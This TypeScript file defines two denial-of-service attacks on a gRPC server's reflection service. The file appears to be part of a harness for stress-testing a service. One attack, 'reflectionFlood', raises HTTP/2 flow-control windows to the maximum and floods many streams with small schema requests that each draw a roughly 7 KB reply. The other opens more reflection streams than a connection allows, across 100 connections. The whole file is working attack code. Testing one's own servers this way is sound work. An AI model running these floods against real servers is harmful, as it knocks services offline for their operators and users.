import { type Attack, callHeaders } from "./attack.js";
import { frame, number32, setting, TYPE } from "./frames.js";

const INITIAL_WINDOW_SIZE = 4;
const REFLECTION = { ":path": "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo" };
const SYMBOL = Buffer.from("securetoken.v1.TokenService");
/** Field 4, `file_containing_symbol`: 34 bytes, answered by 7 KB. */
const REQUEST = Buffer.concat([Buffer.from([0, 0, 0, 0, 29, 0x22, 27]), SYMBOL]);
const STREAMS = 16;

/** Asks for the schema again and again on as many streams as a connection may have. */
export const reflectionFlood: Attack = {
  name: "reflection asked without end",
  connections: 4,
  staysOpen: true,
  async run(connection) {
    const largest = frame(TYPE.windowUpdate, 0, 0, number32(2 ** 30));
    await connection.begin(setting(INITIAL_WINDOW_SIZE, 2 ** 30), largest);
    for (let first = 1; connection.going; first += 2 * STREAMS) {
      const ids = Array.from({ length: STREAMS }, (_, i) => first + 2 * i);
      await connection.write(Buffer.concat(ids.map((id) => callHeaders(id, false, REFLECTION))));
      const ended = connection.streamsEnded;
      for (let asked = 0; asked < 1_100 && connection.going; asked += 10) {
        const frames = ids.flatMap((id) =>
          Array.from({ length: 10 }, () => frame(TYPE.data, 0, id, REQUEST)),
        );
        await connection.write(Buffer.concat(frames), frames.length);
      }
      // Beyond 1,000 requests the server ends each stream.
      while (connection.going && connection.streamsEnded - ended < STREAMS)
        await connection.wait(5);
    }
  },
};

/** Streams of reflection that ask nothing, more than a connection may have. */
export const reflectionStreams: Attack = {
  name: "reflection streams",
  connections: 100,
  staysOpen: true,
  async run(connection) {
    await connection.begin();
    const frames = Array.from({ length: 100 }, (_, i) => callHeaders(2 * i + 1, false, REFLECTION));
    await connection.write(Buffer.concat(frames), frames.length);
    await connection.waitForEnd();
  },
};
